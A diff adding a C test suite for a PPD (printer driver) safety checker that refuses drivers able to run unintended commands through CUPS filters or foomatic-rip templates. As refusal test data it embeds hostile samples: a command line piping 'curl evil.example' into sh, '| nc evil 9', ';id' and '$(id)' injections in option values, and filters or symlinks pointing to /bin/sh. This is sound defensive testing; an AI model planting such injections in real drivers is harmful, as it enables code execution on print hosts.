@@ -1,0 +1,584 @@
+/*
+ * The PPD checks: real distribution PPDs pass, a foomatic PPD passes only
+ * with its command templates on the allow list, and each way a PPD from the
+ * wire could make the guest run something else is refused with its reason.
+ */
+#pragma GCC diagnostic ignored "-Wdeprecated-declarations"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <glob.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cups/cups.h>
+
+#include "ppd.h"
+#include "runner.h"
+
+#define FILTER_DIR	"/usr/lib/cups/filter"
+#define DRIVER		"/usr/lib/cups/driver/openprinting-ppds"
+#define GENERIC_PDF	"/usr/share/ppd/cupsfilters/Generic-PDF_Printer-PDF.ppd"
+/* A Ricoh laser driven by foomatic-rip, with a multi-line command line. */
+#define FOOMATIC_URI	"openprinting-ppds:0/ppd/openprinting/Ricoh/PXL/Ricoh-SP_212w_PXL.ppd"
+/* A plain PostScript PPD without filters. */
+#define POSTSCRIPT_URI	"openprinting-ppds:0/ppd/openprinting/Brother/BR5250_2_GPL.ppd"
+
+/* Four lines, so that the first line a test adds is line 5. */
+#define HDR "*PPD-Adobe: \"4.3\"\n*FormatVersion: \"4.3\"\n" \
+	"*LanguageVersion: English\n*NickName: \"Test\"\n"
+#define FOOMATIC_FILTER "*cupsFilter: \"application/vnd.cups-postscript 0 foomatic-rip\"\n"
+
+/* Fetched once in test_suite(), before check forks the tests. */
+static char *foomatic_ppd, *postscript_ppd;
+static size_t foomatic_len, postscript_len;
+
+static char *
+driver_cat(const char *uri, size_t *len)
+{
+	char cmd[512], *buf = NULL;
+	size_t cap = 0, n = 0, got;
+	FILE *p;
+
+	snprintf(cmd, sizeof(cmd), "%s cat '%s' 2>/dev/null", DRIVER, uri);
+	if ((p = popen(cmd, "r")) == NULL)
+		return NULL;
+	do {
+		if (n + 65536 > cap) {
+			char *nb = realloc(buf, cap = 2 * cap + 65536);
+
+			if (nb == NULL)
+				break;
+			buf = nb;
+		}
+		got = fread(buf + n, 1, cap - n, p);
+		n += got;
+	} while (got > 0);
+	if (pclose(p) != 0 || n == 0) {
+		free(buf);
+		return NULL;
+	}
+	*len = n;
+	return buf;
+}
+
+static char *
+slurp(const char *path, size_t *len)
+{
+	struct stat st;
+	char *buf;
+	int fd = open(path, O_RDONLY);
+
+	ck_assert_msg(fd >= 0, "%s: %s", path, strerror(errno));
+	ck_assert_int_eq(fstat(fd, &st), 0);
+	buf = malloc((size_t)st.st_size + 1);
+	ck_assert_ptr_nonnull(buf);
+	ck_assert_int_eq(read(fd, buf, (size_t)st.st_size), st.st_size);
+	close(fd);
+	*len = (size_t)st.st_size;
+	return buf;
+}
+
+static struct ppd_policy
+policy(const char *allow)
+{
+	struct ppd_policy pol = { 4 << 20, FILTER_DIR, NULL, allow };
+
+	return pol;
+}
+
+static int
+check(const char *ppd, size_t len, const struct ppd_policy *pol, char *err,
+    size_t errlen)
+{
+	return ppd_check_safe(ppd, len, pol, err, errlen);
+}
+
+/* Asserts a refusal whose reason holds every one of the NULL-ended words. */
+static void
+expect_refused_len(const char *ppd, size_t len, const struct ppd_policy *pol, ...)
+{
+	char err[512];
+	const char *w;
+	va_list ap;
+
+	ck_assert_int_eq(check(ppd, len, pol, err, sizeof(err)), -EPERM);
+	va_start(ap, pol);
+	while ((w = va_arg(ap, const char *)) != NULL)
+		ck_assert_msg(strstr(err, w) != NULL, "reason \"%s\" lacks \"%s\"",
+		    err, w);
+	va_end(ap);
+}
+
+#define expect_refused(ppd, pol, ...) \
+	expect_refused_len(ppd, strlen(ppd), pol, __VA_ARGS__, (const char *)NULL)
+
+static void
+expect_ok_len(const char *ppd, size_t len, const struct ppd_policy *pol)
+{
+	char err[512] = "";
+	int rc = check(ppd, len, pol, err, sizeof(err));
+
+	ck_assert_msg(rc == 0, "refused (%d): %s", rc, err);
+}
+
+#define expect_ok(ppd, pol) expect_ok_len(ppd, strlen(ppd), pol)
+
+struct hashes {
+	char list[65536];	/* space-separated, as an allow list */
+	int n;
+	char last_keyword[128];
+	char last_hex[65];
+};
+
+static void
+collect(const char *keyword, const char hex[65], void *arg)
+{
+	struct hashes *h = arg;
+	size_t o = strlen(h->list);
+
+	ck_assert_int_eq(strlen(hex), 64);
+	ck_assert_uint_lt(o + 66, sizeof(h->list));
+	snprintf(h->list + o, sizeof(h->list) - o, "%s%s", o ? " " : "", hex);
+	snprintf(h->last_keyword, sizeof(h->last_keyword), "%s", keyword);
+	snprintf(h->last_hex, sizeof(h->last_hex), "%s", hex);
+	h->n++;
+}
+
+static void
+sha256_hex(const char *s, char hex[65])
+{
+	unsigned char hash[32];
+
+	ck_assert_int_eq(cupsHashData("sha2-256", s, strlen(s), hash, sizeof(hash)), 32);
+	ck_assert_ptr_nonnull(cupsHashString(hash, sizeof(hash), hex, 65));
+}
+
+START_TEST(generic_pdf_printer_passes)
+{
+	struct ppd_policy pol = policy(NULL);
+	char nick[128], err[256];
+	size_t len;
+	char *ppd = slurp(GENERIC_PDF, &len);
+	struct hashes h = { .n = 0 };
+
+	expect_ok_len(ppd, len, &pol);
+	/* Regression: ppdOpen() on fmemopen() failed for every PPD. */
+	ck_assert_int_eq(ppd_check_parse(ppd, len, nick, sizeof(nick), err,
+	    sizeof(err)), 0);
+	ck_assert_str_eq(nick, "Generic PDF Printer");
+	ck_assert_int_eq(ppd_command_hashes(ppd, len, collect, &h), 0);
+	ck_assert_int_eq(h.n, 0);
+	free(ppd);
+}
+END_TEST
+
+START_TEST(distribution_ppds_pass)
+{
+	struct ppd_policy pol = policy(NULL);
+	glob_t g;
+
+	ck_assert_int_eq(glob("/usr/share/ppd/cupsfilters/*.ppd", 0, NULL, &g), 0);
+	for (size_t i = 0; i < g.gl_pathc; i++) {
+		size_t len;
+		char *ppd = slurp(g.gl_pathv[i], &len);
+
+		expect_ok_len(ppd, len, &pol);
+		free(ppd);
+	}
+	globfree(&g);
+	expect_ok_len(postscript_ppd, postscript_len, &pol);
+}
+END_TEST
+
+START_TEST(foomatic_ppd_needs_its_hashes)
+{
+	static struct hashes h, fewer;
+	struct ppd_policy pol = policy(NULL);
+	char *crlf;
+	size_t n = 0;
+
+	expect_refused_len(foomatic_ppd, foomatic_len, &pol, "command template",
+	    "*FoomaticRIPCommandLine on line 54", "not on the allow list",
+	    "(printf", (const char *)NULL);
+	ck_assert_int_eq(ppd_command_hashes(foomatic_ppd, foomatic_len, collect,
+	    &h), 0);
+	ck_assert_int_gt(h.n, 10);
+	pol = policy(h.list);
+	expect_ok_len(foomatic_ppd, foomatic_len, &pol);
+
+	/* Without every copy of the last hash, that template is refused. */
+	for (char *t = strtok(h.list, " "); t != NULL; t = strtok(NULL, " "))
+		if (strcmp(t, h.last_hex) != 0)
+			collect("", t, &fewer);
+	pol = policy(fewer.list);
+	expect_refused_len(foomatic_ppd, foomatic_len, &pol, h.last_hex,
+	    "not on the allow list", (const char *)NULL);
+	ck_assert_int_eq(ppd_command_hashes(foomatic_ppd, foomatic_len, collect,
+	    memset(&h, 0, sizeof(h))), 0);
+	pol = policy(h.list);
+
+	/* The same driver with CRLF line ends has the same templates. */
+	crlf = malloc(2 * foomatic_len);
+	ck_assert_ptr_nonnull(crlf);
+	for (size_t i = 0; i < foomatic_len; i++) {
+		if (foomatic_ppd[i] == '\n')
+			crlf[n++] = '\r';
+		crlf[n++] = foomatic_ppd[i];
+	}
+	expect_ok_len(crlf, n, &pol);
+	free(crlf);
+}
+END_TEST
+
+START_TEST(filter_not_installed)
+{
+	struct ppd_policy pol = policy(NULL);
+
+	expect_refused(HDR "*cupsFilter2: \"application/pdf application/vnd.cups-pdf"
+	    "  0   nosuchfilter\"\n", &pol, "filter \"nosuchfilter\"",
+	    "*cupsFilter2 on line 5", "is not installed in " FILTER_DIR);
+	expect_refused(HDR "*cupsPreFilter: \"application/pdf 0 nosuchprefilter\"\n",
+	    &pol, "filter \"nosuchprefilter\"", "*cupsPreFilter on line 5",
+	    "is not installed");
+	/* Installed ones, "-" and cupsFilter2's maxsize() pass. */
+	expect_ok(HDR "*cupsFilter: \"application/vnd.cups-pdf 0 -\"\n"
+	    "*cupsFilter2: \"application/pdf application/vnd.cups-pdf 0 "
+	    "maxsize(1000) pdftopdf\"\n*cupsPreFilter: \"application/pdf 0 "
+	    "pdftopdf\"\n", &pol);
+}
+END_TEST
+
+START_TEST(filter_outside_the_filter_folder)
+{
+	struct ppd_policy pol = policy(NULL);
+
+	expect_refused(HDR "*cupsFilter: \"application/pdf 0 /bin/sh\"\n", &pol,
+	    "filter \"/bin/sh\"", "*cupsFilter on line 5", "is outside " FILTER_DIR);
+	expect_refused(HDR "*cupsFilter: \"application/pdf 0 ../../bin/sh\"\n",
+	    &pol, "filter \"../../bin/sh\"", "is not a plain file name");
+	expect_refused(HDR "*cupsFilter2: \"application/pdf application/x 0 "
+	    FILTER_DIR "/../../../../bin/sh\"\n", &pol, "is outside");
+	expect_refused(HDR "*cupsFilter: \"application/pdf 0 pdftopdf;id\"\n",
+	    &pol, "\"pdftopdf;id\"", "is not a plain file name");
+	/* cupsd takes the whole rest of the line as the program. */
+	expect_refused(HDR "*cupsFilter: \"application/pdf 0 pdftopdf  x\"\n",
+	    &pol, "\"pdftopdf  x\"", "is not a plain file name");
+	expect_refused(HDR "*cupsFilter: \"application/pdf pdftopdf\"\n", &pol,
+	    "*cupsFilter on line 5 is malformed");
+	/* An absolute path inside the folder is fine. */
+	expect_ok(HDR "*cupsFilter: \"application/pdf 0 " FILTER_DIR "/pdftopdf\"\n",
+	    &pol);
+}
+END_TEST
+
+START_TEST(symlink_escape)
+{
+	char dir[512], path[600], err[512];
+	struct ppd_policy pol = policy(NULL);
+	const char *ppd_good = HDR "*cupsFilter: \"application/pdf 0 good\"\n";
+	const char *ppd_evil = HDR "*cupsFilter: \"application/pdf 0 evil\"\n";
+	const char *ppd_data = HDR "*cupsFilter: \"application/pdf 0 data\"\n";
+	const char *ppd_inner = HDR "*cupsFilter: \"application/pdf 0 inner\"\n";
+	int fd;
+
+	snprintf(dir, sizeof(dir), "%s/filter", runner_tmpdir());
+	ck_assert_int_eq(mkdir(dir, 0755), 0);
+	snprintf(path, sizeof(path), "%s/good", dir);
+	ck_assert_int_ge(fd = open(path, O_WRONLY | O_CREAT, 0755), 0);
+	close(fd);
+	snprintf(path, sizeof(path), "%s/data", dir);
+	ck_assert_int_ge(fd = open(path, O_WRONLY | O_CREAT, 0644), 0);
+	close(fd);
+	snprintf(path, sizeof(path), "%s/evil", dir);
+	ck_assert_int_eq(symlink("/bin/sh", path), 0);
+	snprintf(path, sizeof(path), "%s/inner", dir);
+	ck_assert_int_eq(symlink("good", path), 0);
+	pol.filter_dir = dir;
+
+	expect_ok(ppd_good, &pol);
+	expect_ok(ppd_inner, &pol);
+	ck_assert_int_eq(check(ppd_evil, strlen(ppd_evil), &pol, err, sizeof(err)),
+	    -EPERM);
+	ck_assert_msg(strstr(err, "filter \"evil\"") && strstr(err, "resolves to") &&
+	    strstr(err, "outside") && strstr(err, dir), "%s", err);
+	ck_assert_int_eq(check(ppd_data, strlen(ppd_data), &pol, err, sizeof(err)),
+	    -EPERM);
+	ck_assert_msg(strstr(err, "is not an executable file"), "%s", err);
+}
+END_TEST
+
+START_TEST(command_template_injection)
+{
+	const char *ppd = HDR FOOMATIC_FILTER
+	    "*FoomaticRIPCommandLine: \"gs -q -sDEVICE=pxlmono -sOutputFile=- -; "
+	    "curl evil.example | sh\"\n";
+	struct hashes h = { .n = 0 };
+	struct ppd_policy pol = policy("");
+
+	expect_refused(ppd, &pol, "command template *FoomaticRIPCommandLine on line 6",
+	    "not on the allow list", "; curl evil.example");
+	/* The hash is of the value libcups returns, allowed it passes. */
+	ck_assert_int_eq(ppd_command_hashes(ppd, strlen(ppd), collect, &h), 0);
+	ck_assert_int_eq(h.n, 1);
+	ck_assert_str_eq(h.last_keyword, "FoomaticRIPCommandLine");
+	pol = policy(h.list);
+	expect_ok(ppd, &pol);
+
+	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPPostPipe: \"| nc evil 9\"\n",
+	    &pol, "*FoomaticRIPPostPipe on line 6", "| nc evil 9");
+	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLinePDF: \"gs;id\"\n",
+	    &pol, "*FoomaticRIPCommandLinePDF on line 6");
+	expect_refused(HDR FOOMATIC_FILTER
+	    "*FoomaticRIPOptionSetting Res=600: \" -r600;id\"\n", &pol,
+	    "*FoomaticRIPOptionSetting Res=600 on line 6", "-r600;id");
+	expect_refused(HDR FOOMATIC_FILTER
+	    "*FoomaticRIPOptionPrototype Res: \" -r%s;id\"\n", &pol,
+	    "*FoomaticRIPOptionPrototype Res on line 6");
+}
+END_TEST
+
+START_TEST(multi_line_command_line)
+{
+	const char *ppd = HDR FOOMATIC_FILTER
+	    "*FoomaticRIPCommandLine: \"gs -q -dSAFER &&\n"
+	    "-sDEVICE=pxlmono %A&&\n"
+	    "-sOutputFile=- -\"\n*End\n";
+	char hex[65], allow[80];
+	struct ppd_policy pol = policy(NULL);
+
+	expect_refused(ppd, &pol, "*FoomaticRIPCommandLine on line 6",
+	    "gs -q -dSAFER &&\\n-sDEVICE");
+	/* Hashed as libcups hands it back: "&&" and newlines kept. */
+	sha256_hex("gs -q -dSAFER &&\n-sDEVICE=pxlmono %A&&\n-sOutputFile=- -", hex);
+	snprintf(allow, sizeof(allow), "%s", hex);
+	pol = policy(allow);
+	expect_ok(ppd, &pol);
+	/* Upper case, commas and spaces are all fine in the allow list. */
+	for (char *p = allow; *p; p++)
+		if (*p >= 'a' && *p <= 'f')
+			*p = (char)(*p - 'a' + 'A');
+	snprintf(allow + 64, sizeof(allow) - 64, ", ,");
+	expect_ok(ppd, &pol);
+}
+END_TEST
+
+START_TEST(cmdline_option_code_is_a_template)
+{
+	/* The command line is harmless; the option pasted into %A is not. */
+	const char *ppd = HDR FOOMATIC_FILTER
+	    "*FoomaticRIPCommandLine: \"gs -q %A -sOutputFile=- -\"\n"
+	    "*FoomaticRIPOption Res: enum CmdLine A\n"
+	    "*OpenUI *Res: PickOne\n*DefaultRes: 600\n"
+	    "*Res 600: \"; id >/tmp/owned;\"\n"
+	    "*Res 300: \"%% FoomaticRIPOptionSetting: Res=300\"\n"
+	    "*CloseUI: *Res\n"
+	    "*FoomaticRIPOption Name: string CmdLine B\n"
+	    "*FoomaticRIPOptionMaxLength Name: 20\n*DefaultName: $(id)\n";
+	char hex[65], allow[200];
+	struct ppd_policy pol;
+
+	sha256_hex("gs -q %A -sOutputFile=- -", hex);
+	pol = policy(hex);
+	expect_refused(ppd, &pol, "command template *Res 600 on line 10",
+	    "id >/tmp/owned;");
+	sha256_hex("; id >/tmp/owned;", allow);
+	snprintf(allow + 64, sizeof(allow) - 64, " %s", hex);
+	pol = policy(allow);
+	/* A default that is not a choice is pasted as text. */
+	expect_refused(ppd, &pol, "*DefaultName on line 15", "$(id)");
+}
+END_TEST
+
+START_TEST(prefilter_missing)
+{
+	struct ppd_policy pol = policy(NULL);
+
+	expect_refused(HDR "*cupsPreFilter: \"application/vnd.cups-postscript 0 "
+	    "psprefilter\"\n", &pol, "filter \"psprefilter\"",
+	    "*cupsPreFilter on line 5", "not installed in " FILTER_DIR);
+}
+END_TEST
+
+START_TEST(port_monitor)
+{
+	char dir[512];
+	struct ppd_policy pol = policy(NULL);
+	const char *ok = HDR "*cupsPortMonitor socket/TBCP: \"tbcp\"\n"
+	    "*cupsPortMonitor usb/None: \"none\"\n";
+
+	expect_refused(HDR "*cupsPortMonitor socket/Evil: \"../../../bin/sh\"\n",
+	    &pol, "port monitor \"../../../bin/sh\"", "*cupsPortMonitor on line 5",
+	    "not a plain file name");
+	expect_refused(HDR "*cupsPortMonitor socket/Evil: \"nosuchmonitor\"\n", &pol,
+	    "port monitor \"nosuchmonitor\"", "not installed in /usr/lib/cups/monitor");
+	expect_ok(ok, &pol);
+	/* An explicit monitor folder is used as given. */
+	snprintf(dir, sizeof(dir), "%s", runner_tmpdir());
+	pol.monitor_dir = dir;
+	expect_refused(ok, &pol, "port monitor \"tbcp\"", "not installed in", dir);
+}
+END_TEST
+
+START_TEST(garbage_and_empty)
+{
+	static const unsigned char junk[] = {
+		0x7f, 'E', 'L', 'F', 0x02, 0x01, 0x01, 0x00, 0xff, 0xfe, '\n'
+	};
+	struct ppd_policy pol = policy(NULL);
+	struct hashes h = { .n = 0 };
+	char err[256];
+
+	expect_refused("", &pol, "driver is empty");
+	expect_refused("hello, world\n", &pol, "PPD does not parse",
+	    "Missing asterisk in column 1 on line 1");
+	expect_refused("*PPD-Adobe: \"4.3\"\nnot a keyword\n", &pol,
+	    "PPD does not parse", "line 2");
+	expect_refused_len((const char *)junk, sizeof(junk), &pol,
+	    "control character 0x02 on line 1", (const char *)NULL);
+	ck_assert_int_eq(ppd_command_hashes("hello\n", 6, collect, &h), -EBADMSG);
+	ck_assert_int_eq(ppd_command_hashes("", 0, collect, &h), -EBADMSG);
+	ck_assert_int_eq(ppd_check_parse("", 0, NULL, 0, err, sizeof(err)), -EBADMSG);
+	ck_assert_int_eq(h.n, 0);
+}
+END_TEST
+
+START_TEST(size_cap)
+{
+	const char *ppd = HDR "*cupsFilter: \"application/vnd.cups-pdf 0 -\"\n";
+	size_t len = strlen(ppd);
+	struct ppd_policy pol = policy(NULL);
+	char err[256], want[128];
+
+	pol.max_size = len;
+	expect_ok(ppd, &pol);
+	pol.max_size = len - 1;
+	ck_assert_int_eq(check(ppd, len, &pol, err, sizeof(err)), -EPERM);
+	snprintf(want, sizeof(want), "driver is %zu bytes, over the cap of %zu",
+	    len, len - 1);
+	ck_assert_str_eq(err, want);
+}
+END_TEST
+
+START_TEST(binary_bytes)
+{
+	static const char nul[] = HDR "*FoomaticRIPCommandLine: \"gs\0; id\"\n";
+	struct ppd_policy pol = policy(NULL);
+
+	expect_refused_len(nul, sizeof(nul) - 1, &pol, "NUL byte on line 5",
+	    (const char *)NULL);
+	expect_refused(HDR "*% x\r*FoomaticRIPCommandLine: \"id\"\n", &pol,
+	    "carriage return without a line feed on line 5");
+	expect_refused(HDR "*Foomatic\x1aRIPCommandLine: \"id\"\n", &pol,
+	    "control character 0x1a on line 5");
+	expect_refused("\x1f\x8b\x08\x00", &pol, "gzip-compressed");
+}
+END_TEST
+
+START_TEST(readers_must_agree)
+{
+	struct ppd_policy pol = policy(NULL);
+	struct hashes h = { .n = 0 };
+	/* A real Lexmark quirk: harmless, so accepted. */
+	const char *lexmark = HDR "* DefaultScreenProc: \"Dot\"\n";
+	/* An odd number of quotes keeps libcups' value going. */
+	const char *hidden = HDR FOOMATIC_FILTER "*Foo: \"a\"b\"\n"
+	    "*FoomaticRIPCommandLine: \"id\"\n*Bar: \"x\"\n";
+
+	expect_refused(hidden, &pol, "line 7", "foomatic-rip reads keyword "
+	    "*FoomaticRIPCommandLine here, libcups part of another line's value");
+	ck_assert_int_eq(ppd_command_hashes(hidden, strlen(hidden), collect, &h),
+	    -EPERM);
+	expect_refused(HDR FOOMATIC_FILTER "*Foo: x \"\n*FoomaticRIPCommandLine: "
+	    "\"id\"\n*Bar: \"\n", &pol, "line 7", "foomatic-rip reads keyword");
+	/* libcups files it as a choice, foomatic-rip as the command line. */
+	expect_refused(HDR FOOMATIC_FILTER "*OpenUI *FoomaticRIPCommandLine: PickOne\n"
+	    "*FoomaticRIPCommandLine x: \"id\"\n*CloseUI: *FoomaticRIPCommandLine\n",
+	    &pol, "*FoomaticRIPCommandLine on line 7 is not read as an attribute");
+	expect_refused(HDR FOOMATIC_FILTER "* FoomaticRIPCommandLine: \"id\"\n", &pol,
+	    "line 6: foomatic-rip reads keyword *FoomaticRIPCommandLine here, "
+	    "libcups no keyword");
+	/* foomatic-rip glues the next line onto an unquoted "&&" value. */
+	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: gs&&\n"
+	    "*Zap: \";id\"\n", &pol, "line 7: foomatic-rip reads this line as "
+	    "part of the value of *FoomaticRIPCommandLine");
+	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: x\"gs\"\n",
+	    &pol, "*FoomaticRIPCommandLine on line 6 has stray quotes");
+	expect_refused(HDR "*%APLWORKSET START\n*FoomaticRIPCommandLine: \"id\"\n",
+	    &pol, "line 5: *%APLWORKSET START hides the rest");
+	expect_refused(HDR "*Include: \"/etc/cups/secret.ppd\"\n", &pol,
+	    "*Include on line 5 is refused", "/etc/cups/secret.ppd");
+	expect_ok(lexmark, &pol);
+}
+END_TEST
+
+START_TEST(repeated_keywords)
+{
+	struct ppd_policy pol = policy(NULL);
+
+	/* libcups leaks the first of these; found by fuzz_ppd. */
+	expect_refused(HDR "*NickName: \"Again\"\n", &pol,
+	    "driver repeats *NickName (lines 4 and 5)");
+	expect_refused("*PPD-Adobe:4\n*JCLBegin:\n*JCLBegin:", &pol,
+	    "driver repeats *JCLBegin (lines 2 and 3)");
+	expect_refused(HDR "*OpenUI *Res: PickOne\n*CloseUI: *Res\n"
+	    "*CustomRes True: \"x\"\n*CustomRes True: \"y\"\n*A: \"1\"\n", &pol,
+	    "driver repeats *CustomRes True (line 8)");
+	expect_refused(HDR "*CustomRes True: \"x\"\n*OpenUI *Res: PickOne\n"
+	    "*CloseUI: *Res\n*OpenUI *Res: PickOne\n*CloseUI: *Res\n", &pol,
+	    "driver opens option *res more than once");
+}
+END_TEST
+
+START_TEST(bad_policy)
+{
+	const char *ppd = HDR;
+	struct ppd_policy pol = policy("0123 abc");
+	char err[256];
+
+	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
+	ck_assert_msg(strstr(err, "allow list entry \"0123\""), "%s", err);
+	pol = policy(NULL);
+	pol.filter_dir = NULL;
+	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
+}
+END_TEST
+
+Suite *
+test_suite(void)
+{
+	Suite *s = suite_create("ppd");
+	TCase *tc = tcase_create("ppd");
+
+	if (access(DRIVER, X_OK) != 0)
+		runner_skip("openprinting-ppds is not installed");
+	if (access(GENERIC_PDF, R_OK) != 0 || access(FILTER_DIR "/foomatic-rip", X_OK) != 0)
+		runner_skip("cups-filters is not installed");
+	if ((foomatic_ppd = driver_cat(FOOMATIC_URI, &foomatic_len)) == NULL ||
+	    (postscript_ppd = driver_cat(POSTSCRIPT_URI, &postscript_len)) == NULL)
+		runner_skip("openprinting-ppds lacks the Ricoh SP 212w or Brother "
+		    "HL-5250DN driver");
+	tcase_add_test(tc, generic_pdf_printer_passes);
+	tcase_add_test(tc, distribution_ppds_pass);
+	tcase_add_test(tc, foomatic_ppd_needs_its_hashes);
+	tcase_add_test(tc, filter_not_installed);
+	tcase_add_test(tc, filter_outside_the_filter_folder);
+	tcase_add_test(tc, symlink_escape);
+	tcase_add_test(tc, command_template_injection);
+	tcase_add_test(tc, multi_line_command_line);
+	tcase_add_test(tc, cmdline_option_code_is_a_template);
+	tcase_add_test(tc, prefilter_missing);
+	tcase_add_test(tc, port_monitor);
+	tcase_add_test(tc, garbage_and_empty);
+	tcase_add_test(tc, size_cap);
+	tcase_add_test(tc, binary_bytes);
+	tcase_add_test(tc, readers_must_agree);
+	tcase_add_test(tc, repeated_keywords);
+	tcase_add_test(tc, bad_policy);
+	suite_add_tcase(s, tc);
+	return s;
+}
